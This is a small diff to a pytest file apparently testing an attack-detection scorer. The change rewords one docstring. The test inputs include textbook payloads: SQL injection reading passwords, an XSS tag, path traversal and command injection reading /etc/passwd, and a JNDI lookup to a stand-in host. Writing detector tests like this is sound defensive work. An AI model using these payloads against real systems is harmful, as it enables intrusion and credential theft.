@@ -54,7 +54,7 @@ def test_textbook_attacks_rank_above_ordinary_requests() -> None:
 
 @pytest.mark.parametrize("before", ["The quick brown fox jumps over the lazy dog. ", "lorem " * 60])
 def test_harmless_text_in_front_does_not_clear_an_attack(before: str) -> None:
-    """The score falls; only the shortest attacks are lost (docs/models.md, limits)."""
+    """The score falls, and some attacks are lost: which ones, docs/models.md says (limits)."""
     scorer = Scorer.load(provider="cpu")
     values = ["1 union select username,password from users--", "<script>alert(1)</script>"]
     values += ["../../../../etc/passwd", "${jndi:ldap://a.b/c}", "; cat /etc/passwd", ""]
